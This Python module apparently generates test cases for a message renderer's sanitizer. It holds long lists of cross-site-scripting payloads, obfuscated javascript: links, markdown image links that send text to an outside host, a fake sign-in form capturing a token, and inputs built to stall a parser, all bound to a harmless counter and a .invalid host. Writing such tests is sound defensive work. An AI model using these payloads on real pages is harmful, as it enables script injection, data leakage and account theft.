"""Words that want to run something or to take something away, by class. `RUN` stands for a script that is
noticed when it runs, `AWAY` for an origin that is noticed when anything goes there; both name the case."""

from collections.abc import Callable, Iterator
from dataclasses import dataclass
from itertools import count

PIXEL = "data:image/gif;base64,R0lGODlhAQABAAAAACw="
SVG_PAGE = "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='RUN'/>"

RUNNING = (
    "javascript:RUN",
    "JavaScript:RUN",
    "JAVASCRIPT:RUN",
    " javascript:RUN",
    "java\tscript:RUN",
    "java\nscript:RUN",
    "java\rscript:RUN",
    "\x01javascript:RUN",
    "\u00a0javascript:RUN",
    "\u2028javascript:RUN",
    "\ufeffjavascript:RUN",
    "javascript\u200b:RUN",
    "j\u0430vascript:RUN",
    "\uff4aavascript:RUN",
    "javascript\t:RUN",
    "javascript&colon;RUN",
    "javascript&#58;RUN",
    "javascript&#x3a;RUN",
    "javascript&#0000058RUN",
    "&#106;avascript:RUN",
    "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;RUN",
    "java&Tab;script:RUN",
    "java&NewLine;script:RUN",
    "java%0ascript:RUN",
    "%6aavascript:RUN",
    "javascript://%0aRUN",
    "javascript://example.com/%0aRUN//",
    "view-source:javascript:RUN",
    "feed:javascript:RUN",
    "blob:javascript:RUN",
    "vbscript:RUN",
    "livescript:RUN",
    "data:text/html,<script>RUN</script>",
    "data:text/html;base64,PHNjcmlwdD50b3AuX19oaXQoMCk8L3NjcmlwdD4=",
    "DATA:text/html;charset=utf-8,%3Cscript%3ERUN%3C/script%3E",
    SVG_PAGE,
    "filesystem:http://example.com/RUN",
    "about:blank#RUN",
    "https:javascript:RUN",
    "//AWAY_HOST/RUN",
    "\\\\AWAY_HOST\\RUN",
    "/\\AWAY_HOST/RUN",
)
LINKS = (
    "[press](URL)",
    "[press](<URL>)",
    "<URL>",
    "[press][a]\n\n[a]: URL",
    '<a href="URL">press</a>',
    "![picture](URL)",
)

# What a browser takes for markup. None of it may become any.
MARKUP = (
    "<script>RUN</script>",
    "<SCRIPT>RUN</SCRIPT >",
    "<script src=AWAY/a.js></script>",
    '<script type="module">RUN</script>',
    "<scr<script>ipt>RUN</scr</script>ipt>",
    "<script\n>RUN</script\n>",
    "<script/x>RUN</script/x>",
    "<script>/*\n\n*/RUN\n\n</script>",
    "<!--><script>RUN</script>-->",
    "<!-- --!><script>RUN</script>",
    "<!--[if gte IE 4]><script>RUN</script><![endif]-->",
    "<![CDATA[<script>RUN</script>]]>",
    "<?xml-stylesheet href='javascript:RUN'?>",
    "<?php RUN ?>",
    "<!DOCTYPE html [<!ENTITY x '<script>RUN</script>'>]>&x;",
    "<img src=x onerror=RUN>",
    "<img src=x onerror=&#82;UN>",
    "<IMG SRC=x OnErRoR=RUN>",
    "<img/src=x/onerror=RUN>",
    "<img\tsrc=x\nonerror=RUN>",
    "<img src=x:x onerror=RUN//",
    '<img src="x` `<script>RUN</script>"` `>',
    "<img src=AWAY/a.png>",
    "<img srcset='AWAY/a.png 1x, AWAY/b.png 2x'>",
    "<img src=x srcset=x sizes=x onloadstart=RUN>",
    "<img lowsrc=AWAY/a dynsrc=AWAY/b longdesc=AWAY/c usemap=#x>",
    "<picture><source srcset=AWAY/a.webp><img></picture>",
    "<svg onload=RUN>",
    "<svg/onload=RUN>",
    "<svg><script>RUN</script></svg>",
    "<svg><script href=AWAY/a.js /></svg>",
    "<svg><a xlink:href=javascript:RUN><text y=20>press</text></a></svg>",
    "<svg><use href='AWAY/a.svg#x'/></svg>",
    "<svg><image href=AWAY/a.png /></svg>",
    "<svg><animate onbegin=RUN attributeName=x dur=1s></svg>",
    "<svg><set attributeName=href to=javascript:RUN></svg>",
    "<svg><foreignObject><iframe src=javascript:RUN></foreignObject></svg>",
    "<svg><style><img src=x onerror=RUN></style></svg>",
    "<math><mtext><img src=x onerror=RUN></mtext></math>",
    "<math href=javascript:RUN>press</math>",
    "<math><mglyph><style><img src=x onerror=RUN></style></mglyph></math>",
    "<iframe src=javascript:RUN></iframe>",
    "<iframe srcdoc='<script>RUN</script>'></iframe>",
    "<iframe src=AWAY></iframe>",
    "<frameset onload=RUN><frame src=AWAY></frameset>",
    "<object data=javascript:RUN></object>",
    "<object data=AWAY type=text/html></object>",
    "<embed src=javascript:RUN>",
    "<embed src=AWAY/a.swf>",
    "<applet code=AWAY/a.class></applet>",
    "<meta http-equiv=refresh content='0;url=javascript:RUN'>",
    "<meta http-equiv=refresh content='0;url=AWAY'>",
    "<meta http-equiv=x-dns-prefetch-control content=on>",
    "<meta http-equiv=Content-Security-Policy content=''>",
    "<base href=AWAY/>",
    "<base target=_top href=javascript:RUN//>",
    "<link rel=stylesheet href=AWAY/a.css>",
    "<link rel=prefetch href=AWAY/a>",
    "<link rel=preload as=image href=AWAY/a>",
    "<link rel=dns-prefetch href=AWAY>",
    "<link rel=preconnect href=AWAY>",
    "<link rel=prerender href=AWAY>",
    "<link rel=modulepreload href=AWAY/a.js>",
    "<link rel=icon href=AWAY/a.ico>",
    "<link rel=manifest href=AWAY/a.json>",
    "<link rel=import href=AWAY/a.html>",
    "<script type=speculationrules>{'prefetch':[{'urls':['AWAY']}]}</script>",
    "<script type=importmap>{'imports':{'a':'AWAY/a.js'}}</script>",
    "<style>@import 'AWAY/a.css';</style>",
    "<style>*{background:url(AWAY/a.png)}</style>",
    "<style>body{display:none}</style>",
    "<div style='background:url(AWAY/a.png)'>x</div>",
    "<div style='position:fixed;inset:0;z-index:9999;background:red'>covers all</div>",
    "<div style=width:expression(RUN)>x</div>",
    "<table background=AWAY/a.png><tr><td>x</table>",
    "<body onload=RUN background=AWAY/a.png>",
    "<body onpageshow=RUN>",
    "<input autofocus onfocus=RUN>",
    "<input type=image src=AWAY/a.png formaction=javascript:RUN>",
    "<select autofocus onfocus=RUN></select>",
    "<textarea autofocus onfocus=RUN></textarea>",
    "<button form=x formaction=javascript:RUN>press</button>",
    "<form action=AWAY><input name=token><button>Sign in</button></form>",
    "<form id=x action=javascript:RUN><input type=submit></form>",
    "<isindex action=javascript:RUN type=submit>",
    "<details open ontoggle=RUN><summary>x</summary></details>",
    "<dialog open onclose=RUN>x</dialog>",
    "<video src=AWAY/a.mp4 poster=AWAY/a.png onloadstart=RUN autoplay></video>",
    "<video><source onerror=RUN src=x></video>",
    "<audio src=AWAY/a.mp3 autoplay onerror=RUN></audio>",
    "<track src=AWAY/a.vtt>",
    "<marquee onstart=RUN>x</marquee>",
    "<bgsound src=AWAY/a.wav>",
    "<a href=AWAY ping=AWAY/p>press</a>",
    "<a href=javascript:RUN target=_self>press</a>",
    "<a onmouseover=RUN style=display:block>pass over</a>",
    "<area shape=default href=javascript:RUN>",
    "<x onclick=RUN tabindex=1 autofocus onfocus=RUN>x</x>",
    "<p onanimationstart=RUN style=animation:spin>x</p>",
    "<template><script>RUN</script></template>",
    "<template shadowrootmode=open><script>RUN</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=RUN>'></noscript>",
    "<title></title><script>RUN</script>",
    "<xmp><script>RUN</script></xmp>",
    "<plaintext>",
    "<textarea><script>RUN</script>",
    "</textarea><script>RUN</script>",
    "</title></style></script><img src=x onerror=RUN>",
    '"><script>RUN</script>',
    "'-RUN-'",
    "\\');RUN//",
    "</div></main><script>RUN</script>",
    "\uff1cscript\uff1eRUN\uff1c/script\uff1e",
    "+ADw-script+AD4-RUN+ADw-/script+AD4-",
    "\x1b$B<script>RUN</script>",
    "&lt;script&gt;RUN&lt;/script&gt;",
    "&#60;img src=x onerror=RUN&#62;",
    "&amp;lt;script&amp;gt;RUN&amp;lt;/script&amp;gt;",
    "<img id=page><form id=body><a id=location href=AWAY>",
    "<form name=cookie><input id=__proto__>",
    "{{constructor.constructor('RUN')()}}".replace("{{", "{ {"),
    "${RUN}",
    "<%= RUN %>",
    "[[RUN]]",
)

# Addresses that would tell somebody what was said, without anybody pressing anything.
LEAVING = (
    "![a](AWAY/a.png?what=was-said)",
    '![a](AWAY/a.png "title")',
    "![a](<AWAY/a b.png>)",
    "![a][r]\n\n[r]: AWAY/a.png",
    "![r]\n\n[r]: AWAY/a.png",
    "![a][]\n\n[a]: AWAY/a.png 'title'",
    "[![a](AWAY/a.png)](AWAY/b)",
    "[a ![b](AWAY/a.png) c][r]\n\n[r]: AWAY/b",
    "![![a](AWAY/a.png)](AWAY/b.png)",
    "![a](//AWAY_HOST/a.png)",
    "![a](\\\\AWAY_HOST\\a.png)",
    "![a](/\\AWAY_HOST/a.png)",
    "![a](https:AWAY_HOST/a.png)",
    "![a](HTTPS://AWAY_HOST/a.png)",
    "![a](http&#58;//AWAY_HOST/a.png)",
    "![a](/api/blobs/../../AWAY_HOST)",
    "![a](/api/blobs/%2e%2e/%2e%2e/a)",
    "![a](/api/blobs/x?to=AWAY)",
    "![a](/api/blobs/x#AWAY)",
    "![a](/api/blobs//AWAY_HOST/a.png)",
    "![a](/api/blobs/a@AWAY_HOST)",
    "![a](/api/session)",
    "![a](?as=grace)",
    "![a](https://example.com@AWAY_HOST/a.png)",
    "![a](ftp://AWAY_HOST/a.png)",
    "![a](ws://AWAY_HOST/)",
    "![a](attachment:AWAY)",
    "![a](cid:AWAY_HOST)",
    f"![a]({PIXEL})",
    f"![a]({SVG_PAGE})",
    "AWAY/auto?what=was-said",
    "<AWAY/auto>",
    "www.AWAY_HOST/auto",
    "someone@AWAY_HOST",
    "mailto:someone@AWAY_HOST?body=was-said",
    "<mailto:someone@AWAY_HOST?cc=x@AWAY_HOST>",
    "[a](AWAY 'title\" onmouseover=RUN')",
    '[a](AWAY "x\\" onmouseover=\\"RUN")',
    "[a](AWAY/%22onmouseover=RUN//)",
    '[a](AWAY/"onmouseover=RUN)',
    "[a](AWAY/'onmouseover='RUN)",
    "[`a`](AWAY)`<script>RUN</script>`",
    "[https://example.com/](AWAY)",
    "[example.com](https://example.com@AWAY_HOST/)",
    "[\u202emoc.elpmaxe](AWAY)",
    "[a](https://ex\u0430mple.com.AWAY_HOST/)",
    "[a](https://AWAY_HOST\u3002example.com/)",
    "[a](https://AWAY_HOST:99999/)",
    "[a](https://[::1/)",
    "[a](https://)",
    "[a](https://%00AWAY_HOST/)",
    "[a]: AWAY\n\n[a]\n\n[A]\n\n[ a ]",
    "[__proto__]: AWAY\n\n[__proto__] [constructor] [toString]",
    "[constructor]: AWAY\n\n[constructor]\n\n[hasOwnProperty][]",
    "[^1]\n\n[^1]: ![a](AWAY/a.png)",
    "> ![a](AWAY/a.png)\n>> <img src=AWAY/a.png>",
    "- [ ] ![a](AWAY/a.png)\n- [x] <img src=x onerror=RUN>",
    "| ![a](AWAY/a.png) | <img src=x onerror=RUN> |\n|:-:|-:|\n| [a](javascript:RUN) | AWAY |",
    "# ![a](AWAY/a.png) <img src=x onerror=RUN>",
    "**[a](javascript:RUN)** *<img src=x onerror=RUN>* ~~![a](AWAY/a.png)~~",
    "***a [b **c](javascript:RUN) d** ![e*](AWAY/a.png)",
    "```html\n<script>RUN</script>\n```",
    "```<script>RUN</script>\nx\n```",
    '```" onclick="RUN\nx\n```',
    "~~~javascript:RUN\nx\n~~~",
    "```mermaid\ngraph LR; a-->b; click a href 'javascript:RUN'\n```",
    "    <script>RUN</script>",
    "`` <img src=x onerror=RUN> ``",
    "$$\\href{javascript:RUN}{x}$$ \\(\\unicode{<img src=x onerror=RUN>}\\)",
    "<details>\n<summary>x</summary>\n\n![a](AWAY/a.png)\n\n</details>",
    "<div>\n\n[a](javascript:RUN)\n\n</div>",
    "1. a\n\n   <iframe src=AWAY>\n\n2. ![a](AWAY/a.png)",
    "999999999. a\n1000000000. <img src=x onerror=RUN>",
)

# Text that is hard to read for a page: whoever sends it wants the page of others to stand still.
TIRING: tuple[tuple[str, Callable[[], str]], ...] = (
    ("emphasis", lambda: "_a*" * 16_000),
    ("mail", lambda: "a." * 25_000 + "@"),
    ("spaces", lambda: "a" + " " * 50_000 + "b"),
    ("markers", lambda: ("- " * 15 + "x\n") * 1_000),
    ("brackets", lambda: "[" * 50_000),
    ("pictures", lambda: "![" * 25_000),
    ("parentheses", lambda: "[a](" + "(" * 50_000),
    ("tags", lambda: "<a " * 16_000),
    ("quotes", lambda: "> " * 20_000 + "a"),
    ("lists", lambda: "\n".join("  " * depth + "- a" for depth in range(300))),
    ("entities", lambda: "&#" * 25_000),
    ("pipes", lambda: "|a" * 3_000 + "\n" + "|-" * 3_000),
    ("links", lambda: "[[[a](b)](c)](d)" * 3_000),
    ("backticks", lambda: "".join("`" * width + "a" for width in range(300))),
    ("one word", lambda: "w" * 90_000),
    ("marks", lambda: "a" + "\u0301" * 20_000),
    ("lines", lambda: "\n" * 20_000 + "x"),
)


@dataclass(frozen=True)
class Case:
    kind: str
    number: int
    text: str

    @property
    def name(self) -> str:
        return f"{self.kind} {self.number}: {self.text[:120]!r}"


_numbers = count(1)


def armed(text: str, number: int) -> str:
    """With the script and the origin of this case in it."""
    host = f"case{number}.invalid"
    text = text.replace("AWAY_HOST", host).replace("AWAY", f"https://{host}")
    return text.replace("RUN", f"top.__hit({number})")


def case(kind: str, text: str) -> Case:
    number = next(_numbers)
    return Case(kind, number, armed(text, number))


def running_links() -> Iterator[str]:
    for at, address in enumerate(RUNNING):
        for shape in (LINKS[at % 6], LINKS[(at + 1) % 6], LINKS[(at + 3) % 6]):
            yield shape.replace("URL", address)


def texts() -> dict[str, list[Case]]:
    """What may stand in a message, by class."""
    found = {"running links": running_links(), "markup": MARKUP, "leaving": LEAVING}
    return {kind: [case(kind, text) for text in words] for kind, words in found.items()}


# What others are called, and what is shown of their words outside of a message.
NAMES = (
    "<script>RUN</script>",
    "<img src=x onerror=RUN>",
    '"><svg onload=RUN>',
    "' onmouseover='RUN",
    "javascript:RUN",
    "[a](javascript:RUN)",
    "![a](AWAY/a.png)",
    "AWAY/",
    ".*+?^${}()|[]\\",
    "(a+)+$",
    "@ada @grace",
    "__proto__",
    "constructor",
    "Ada\u202egnitekraM",
    "Ada\u200b",
    "\u0410da",
    "\u2066\u2067\u202e",
    "a\nb\tc",
    "\u0301\u0301\u0301",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "x" * 200,
)


def names() -> list[Case]:
    return [case("name", name) for name in NAMES]
